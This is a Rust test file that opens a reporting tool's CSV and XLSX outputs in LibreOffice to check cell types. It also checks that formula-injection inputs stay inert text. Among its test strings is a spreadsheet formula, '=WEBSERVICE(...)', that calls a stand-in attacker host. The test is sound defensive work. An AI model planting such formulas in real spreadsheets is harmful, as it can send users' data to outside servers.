//! The tables and the workbook as LibreOffice opens them: dates are dates, numbers numbers, formulas inert.
//!
//! Needs `soffice`; without it the tests say that they were skipped, unless `PLIMSOLL_REQUIRE_OFFICE=1` asks for it.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::Path;
use std::process::Command;

use plimsoll_domain::Assessment;
use plimsoll_domain::tables::Tables;
use plimsoll_report::csv::{CsvOptions, File, described};
use plimsoll_report::xlsx;

use crate::hostile::{self, ATTACKS};
use crate::workbook::SHEETS;
use crate::{sample, sample_tables};

/// A cell as the office has it: its type, its value, and whether it is a formula of more than a constant.
#[derive(Debug, Clone, PartialEq)]
struct Cell {
    kind: String,
    value: String,
    formula: bool,
}

/// How the office reads a workbook's booleans.
const CONSTANTS: [&str; 2] = ["of:=TRUE()", "of:=FALSE()"];

type Sheet = BTreeMap<(usize, usize), Cell>;

/// Whether there is an office; says so where there is none.
fn office() -> bool {
    let found = Command::new("soffice").arg("--version").output().is_ok_and(|output| output.status.success());
    let required = std::env::var("PLIMSOLL_REQUIRE_OFFICE").is_ok_and(|value| value == "1");
    assert!(found || !required, "PLIMSOLL_REQUIRE_OFFICE asks for soffice, and there is none");
    if !found {
        // Past the capture of a test's output: who reads a green run must see what did not run.
        let mut stderr = std::io::stderr();
        writeln!(stderr, "SKIPPED: soffice is missing, nothing was opened in an office").unwrap();
    }
    found
}

/// Opens files in the office and saves them as `to`; `filter` says how text is read.
fn convert(folder: &Path, names: &[String], to: &str, filter: Option<&str>) {
    let profile = format!("-env:UserInstallation=file://{}/profile", folder.display());
    let mut command = Command::new("soffice");
    command.args([&profile, "--headless", "--norestore", "--convert-to", to, "--outdir"]).arg(folder);
    command.args(filter.map(|filter| format!("--infilter={filter}")));
    let output = command.args(names.iter().map(|name| folder.join(name))).output().unwrap();
    assert!(output.status.success(), "{output:?}");
}

/// Sheets by name of documents written as given, by the documents' names.
fn opened(files: &[(String, Vec<u8>)], filter: Option<&str>) -> BTreeMap<String, BTreeMap<String, Sheet>> {
    let folder = tempfile::tempdir().unwrap();
    for (name, bytes) in files {
        std::fs::write(folder.path().join(name), bytes).unwrap();
    }
    let names: Vec<_> = files.iter().map(|(name, _)| name.clone()).collect();
    convert(folder.path(), &names, "fods", filter);
    let read = |name: &String| {
        let stem = Path::new(name).file_stem().unwrap().to_string_lossy().into_owned();
        let text = std::fs::read_to_string(folder.path().join(format!("{stem}.fods")));
        (name.clone(), sheets(&text.unwrap_or_else(|error| panic!("{name} did not open: {error}"))))
    };
    names.iter().map(read).collect()
}

/// The sheets of a flat OpenDocument spreadsheet.
fn sheets(text: &str) -> BTreeMap<String, Sheet> {
    let body = text.split("<office:spreadsheet>").nth(1).unwrap();
    let tables = body.split("<table:table ").skip(1);
    tables.map(|table| (attribute(table, "table:name").unwrap(), sheet(table))).collect()
}

fn sheet(table: &str) -> Sheet {
    let mut cells = Sheet::new();
    let mut row = 0;
    // Shapes inside a sheet have tables of their own in front of the rows.
    for text in table.split("<table:table-row").skip(1) {
        let repeated =
            |tag: &str, name| attribute(tag, name).map_or(1, |times| times.parse::<usize>().unwrap());
        let mut column = 0;
        for text in text.split("<table:table-cell").skip(1) {
            let (tag, rest) = text.split_once('>').unwrap();
            let times = repeated(tag, "table:number-columns-repeated");
            if let Some(kind) = attribute(tag, "office:value-type") {
                let named = ["office:value", "office:date-value", "office:boolean-value"];
                let value = named.iter().find_map(|name| attribute(tag, name)).unwrap_or_else(|| plain(rest));
                let formula = attribute(tag, "table:formula");
                let formula = formula.is_some_and(|formula| !CONSTANTS.contains(&formula.as_str()));
                for place in column..column + times {
                    let cell = Cell { kind: kind.clone(), value: value.clone(), formula };
                    cells.insert((row, place), cell);
                }
            }
            column += times;
        }
        row += repeated(text.split('>').next().unwrap(), "table:number-rows-repeated");
    }
    cells
}

fn attribute(tag: &str, name: &str) -> Option<String> {
    let tag = tag.split('>').next()?;
    let rest = tag.split(&format!("{name}=\"")).nth(1)?;
    Some(unescaped(rest.split('"').next()?))
}

/// The text of a cell's paragraphs.
fn plain(cell: &str) -> String {
    let cell = cell.split("</table:table-cell>").next().unwrap();
    let paragraphs = cell.split("<text:p>").skip(1).map(|one| one.split("</text:p>").next().unwrap());
    let bare = |text: &str| {
        let pieces = text.split('<').map(|piece| piece.split_once('>').map_or(piece, |(_, rest)| rest));
        pieces.collect::<String>()
    };
    unescaped(&paragraphs.map(bare).collect::<Vec<_>>().join("\n"))
}

fn unescaped(text: &str) -> String {
    let text = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"");
    text.replace("&apos;", "'").replace("&amp;", "&")
}

/// Compares a sheet with its table cell by cell; `native` where the file has types of its own.
fn compare(name: &str, sheet: &Sheet, file: File, assessment: &Assessment, tables: &Tables, native: bool) {
    let text = file.table(assessment, tables).csv(&CsvOptions::default());
    let described = described();
    let columns = &described.iter().find(|(table, _)| *table == file.name()).unwrap().1;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut compared = 0;
    for (row, record) in (1..).zip(reader.records().map(Result::unwrap)) {
        for (column, wanted) in record.iter().enumerate() {
            let about = format!("{name} row {row} {}", columns[column].name);
            let Some(found) = sheet.get(&(row, column)) else {
                assert_eq!(wanted, "", "{about} is empty");
                continue;
            };
            assert!(!found.formula, "{about}");
            compared += 1;
            let kind = columns[column].kind.split([' ', ',']).next().unwrap();
            match kind {
                "number" | "whole" => {
                    let types = ["float", "percentage"];
                    assert!(types.contains(&found.kind.as_str()), "{about}: {found:?}");
                    let (found, wanted): (f64, f64) = (found.value.parse().unwrap(), wanted.parse().unwrap());
                    assert!((found - wanted).abs() <= wanted.abs() * 1e-9, "{about}: {found} {wanted}");
                }
                "time" | "date" if native || kind == "date" => {
                    assert_eq!(found.kind, "date", "{about}");
                    let wanted = wanted.trim_end_matches('Z').trim_end_matches("T00:00:00");
                    assert_eq!(found.value, wanted, "{about}");
                }
                // With its zone an instant is a text, to be sorted as it stands, and read back as it was written.
                "time" => {
                    assert_eq!((found.kind.as_str(), found.value.as_str()), ("string", wanted), "{about}");
                }
                "true" => {
                    let yes = ["true", "1"].contains(&found.value.to_lowercase().as_str());
                    assert!(yes == (wanted == "true"), "{about}: {found:?}");
                    assert!(!native || found.kind != "string", "{about}: {found:?}");
                }
                _ => {}
            }
        }
    }
    assert!(compared > 0, "{name} was compared");
}

#[test]
fn the_workbook_opens_with_dates_numbers_and_percentages() {
    if !office() {
        return;
    }
    let (assessment, tables) = (sample::assessment(), sample_tables::tables(None));
    let files = [("book.xlsx".to_owned(), xlsx(&assessment, &tables).unwrap())];
    let book = &opened(&files, None)["book.xlsx"];
    for (name, file) in SHEETS {
        compare(name, &book[name], file, &assessment, &tables, true);
    }
    let matrix = &book["Coverage matrix"];
    assert_eq!(matrix[&(0, 1)], Cell { kind: "date".into(), value: "2026-01-05".into(), formula: false });
    assert_eq!(matrix[&(1, 1)], Cell { kind: "percentage".into(), value: "1".into(), formula: false });
}

/// How the office reads text: separator, quotes, UTF-8, from the first line, in a language, finding dates by itself.
fn filter(separator: u8, language: u16) -> String {
    format!("Text - txt - csv (StarCalc):{separator},34,76,1,,{language},false,true")
}

#[test]
fn the_tables_open_with_dates_and_numbers_in_countries_of_either_sign() {
    if !office() {
        return;
    }
    let (assessment, tables) = (sample::assessment(), sample_tables::tables(None));
    for (options, filter) in
        [(CsvOptions::default(), filter(b',', 1_033)), (CsvOptions::DECIMAL_COMMA, filter(b';', 1_031))]
    {
        let bytes = |file: File| {
            (file.name().to_owned(), file.table(&assessment, &tables).csv(&options).into_bytes())
        };
        let files: Vec<_> = File::ALL.into_iter().map(bytes).collect();
        let opened = opened(&files, Some(&filter));
        for file in File::ALL {
            let sheet = opened[file.name()].values().next().unwrap();
            compare(file.name(), sheet, file, &assessment, &tables, false);
        }
    }
}

#[test]
fn hostile_texts_stay_texts_in_an_office() {
    if !office() {
        return;
    }
    let assessment = hostile::assessment();
    let csv = |file: File, tables: &Tables| {
        file.table(&assessment, tables).csv(&CsvOptions::default()).into_bytes()
    };
    let mut books = Vec::new();
    let mut texts: Vec<_> = [File::Metrics, File::Practices, File::Levels]
        .map(|file| (file.name().to_owned(), csv(file, &Tables::default())))
        .to_vec();
    let formulas = ["=1+1", "-2+3", "+SUM(A1)", "@x", "\t=1", "=WEBSERVICE(\"https://evil.example\")"];
    for (number, attack) in ATTACKS.into_iter().chain(formulas).enumerate() {
        let tables = sample_tables::tables(Some(attack));
        texts.push((format!("runs-{number}.csv"), csv(File::Runs, &tables)));
        if attack.contains('=') {
            books.push((format!("book-{number}.xlsx"), xlsx(&assessment, &tables).unwrap()));
        }
    }
    let mut cells = 0;
    for (files, filter) in [(books, None), (texts, Some(filter(b',', 1_033)))] {
        for (name, sheets) in opened(&files, filter.as_deref()) {
            for cell in sheets.values().flat_map(Sheet::values) {
                assert!(!cell.formula, "{name}: {cell:?}");
                cells += 1;
            }
        }
    }
    assert!(cells > 1_000, "{cells} cells were looked at");
}
